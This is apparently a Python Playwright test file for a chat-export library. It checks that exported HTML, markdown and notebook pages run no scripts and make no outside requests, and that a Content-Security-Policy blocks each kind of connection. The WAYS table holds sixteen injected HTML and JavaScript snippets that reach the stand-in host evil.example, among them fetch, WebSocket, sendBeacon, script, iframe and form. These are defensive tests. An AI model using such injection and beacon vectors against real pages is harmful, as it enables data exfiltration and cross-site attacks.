"""What is exported, opened in Chromium and in JupyterLab: nothing runs, nothing is asked for."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlparse

import nbformat
import pytest
from nbconvert import HTMLExporter
from nbconvert.filters import markdown2html
from playwright.sync_api import Browser, expect

import sagents_nb as sa
from sagents_nb.export import html_of, markdown_of, notebook_of
from tests.browser.lab import Lab
from tests.browser.windows import ARTIFACTS
from tests.export.payloads import ASKING, SCRIPTS, document_with

pytestmark = pytest.mark.browser

DOCUMENT = document_with([*SCRIPTS, *ASKING])


def a_page(body: str) -> str:
    return f"<!DOCTYPE html><meta charset=utf-8><title>x</title>{body}"


def notebook_page() -> str:
    notebook = nbformat.reads(notebook_of(DOCUMENT), as_version=4)
    return a_page(HTMLExporter(template_name="basic").from_notebook_node(notebook)[0])


PAGES: dict[str, Callable[[], str]] = {
    "page": lambda: html_of(DOCUMENT),
    # Text has to be text without the help of the policy, too.
    "page without its policy": lambda: html_of(DOCUMENT).replace("Content-Security-Policy", "x"),
    "markdown": lambda: a_page(markdown2html(markdown_of(DOCUMENT))),
    "notebook": notebook_page,
}


@pytest.mark.parametrize("made", PAGES.values(), ids=PAGES)
def test_an_export_runs_nothing_and_asks_for_nothing(
    made: Callable[[], str], browser: Browser, tmp_path: Path
) -> None:
    path = tmp_path / "export.html"
    path.write_text(made(), encoding="utf-8")
    context = browser.new_context()
    page = context.new_page()
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url))
    page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: seen.append(str(error)))
    page.add_init_script("window.alert = () => { window.ran = true }")
    page.goto(path.as_uri())
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true })")
    page.mouse.move(200, 200)
    page.mouse.wheel(0, 4000)
    page.keyboard.press("Tab")
    page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
    assert page.evaluate("window.ran") is None
    assert [url for url in seen if url != path.as_uri() and not url.startswith("data:image/")] == []
    live = "script, iframe, object, embed, form, link, base, svg, maction, math [href], [onerror]"
    assert page.locator(f"{live}, [onload]").count() == 0
    links = page.locator("a[href]").evaluate_all("(all) => all.map((one) => one.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:", "file:"}  # file: within the page
    context.close()


EVIL = "https://evil.example/x"
# What a script of the page would do, and which part of the policy says no.
WAYS = {
    "an image": (f"add('<img src={EVIL}>')", "img-src"),
    "an image of a style": (f"add('<p style=\"background:url({EVIL})\">x</p>')", "img-src"),
    "a font": (f"new FontFace('x', 'url({EVIL})').load().catch(() => {{}})", "font-src"),
    "a style sheet": (f"add('<link rel=stylesheet href={EVIL}>')", "style-src-elem"),
    "a script": (
        f"document.body.append(Object.assign(document.createElement('script'), {{src: '{EVIL}'}}))",
        "script-src-elem",
    ),
    "fetch": (f"fetch('{EVIL}').catch(() => {{}})", "connect-src"),
    "a WebSocket": ("new WebSocket('wss://evil.example/x')", "connect-src"),
    "an event stream": (f"new EventSource('{EVIL}')", "connect-src"),
    "a beacon": (f"navigator.sendBeacon('{EVIL}', 'x')", "connect-src"),
    "ping": (f"add('<a href=# ping={EVIL}>x</a>'); added().click()", "connect-src"),
    "a frame": (f"add('<iframe src={EVIL}></iframe>')", "frame-src"),
    "a video": (f"add('<video src={EVIL}></video>')", "media-src"),
    "an object": (f"add('<object data={EVIL}></object>')", "object-src"),
    "prefetching": (f"add('<link rel=prefetch href={EVIL}>')", "default-src"),
    "a form": (f"add('<form action={EVIL}></form>'); added().submit()", "form-action"),
    "a base": (f"add('<base href={EVIL}>')", "base-uri"),
}


@pytest.mark.parametrize(("does", "part"), WAYS.values(), ids=WAYS)
def test_the_policy_of_an_exported_page_refuses_each_kind_of_connection(
    does: str, part: str, browser: Browser, tmp_path: Path
) -> None:
    path = tmp_path / "export.html"
    path.write_text(html_of(document_with(["hello"])), encoding="utf-8")
    context = browser.new_context()
    page = context.new_page()
    page.goto(path.as_uri())
    refused = page.evaluate(
        f"""new Promise((done) => {{
          document.addEventListener("securitypolicyviolation", (refused) => done(refused));
          const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
          const added = () => document.body.lastElementChild;
          {does};
        }}).then(({{ effectiveDirective, blockedURI }}) => [effectiveDirective, blockedURI])"""
    )
    assert refused[0] == part
    assert urlparse(refused[1]).hostname == "evil.example"
    context.close()


@pytest.mark.soak
def test_an_exported_notebook_opens_in_jupyterlab_and_runs_nothing(lab: Lab) -> None:
    path = lab.server.root / "exported.ipynb"
    path.write_text(notebook_of(document_with(["*so*", *SCRIPTS[:40], *ASKING])), encoding="utf-8")
    notebook = lab.open_file(path)
    expect(notebook.cell(0)).to_contain_text("so")
    expect(notebook.cell(1).locator("blockquote").first).to_be_visible()
    live = "script, iframe, object, embed, form, [onerror], img:not([src^='data:image/'])"
    content = notebook.page.locator(".jp-Notebook .jp-RenderedMarkdown")
    assert content.locator(f"{live}, [onload]").count() == 0
    assert notebook.foreign_requests == []
    notebook.screenshot("exported-notebook")


TABLE = """| Site | Depth | Acidity | Conductivity | Temperature | State |
|:--|--:|--:|--:|--:|---|
| well 17 | 1234.56 | 7.29 | 12345.67 | 11.25 | flagged |
"""


def test_on_a_phone_a_table_of_an_exported_page_scrolls_and_its_words_stay_whole(
    browser: Browser, tmp_path: Path
) -> None:
    state = sa.State(messages=[sa.Message.user("Which wells?"), sa.Message.assistant(TABLE)])
    with sa.Session(sa.Agent(sa.ScriptedModel([])), state=state) as session:
        session.to_html(tmp_path / "talk.html")
    context = browser.new_context(viewport={"width": 400, "height": 700})
    page = context.new_page()
    page.goto((tmp_path / "talk.html").as_uri())
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=ARTIFACTS / "exported-table-narrow.png")
    for cell in page.locator("td").all()[1:]:  # each of them one word
        assert (
            cell.evaluate("""cell => {
            const words = document.createRange();
            words.selectNodeContents(cell);
            return words.getClientRects().length;
        }""")
            == 1
        )
    pane = page.locator(".table")
    assert pane.evaluate("pane => pane.scrollWidth > pane.clientWidth")
    assert page.evaluate("document.documentElement.scrollWidth") <= 400
    page.keyboard.press("Tab")
    expect(pane).to_be_focused()
    context.close()
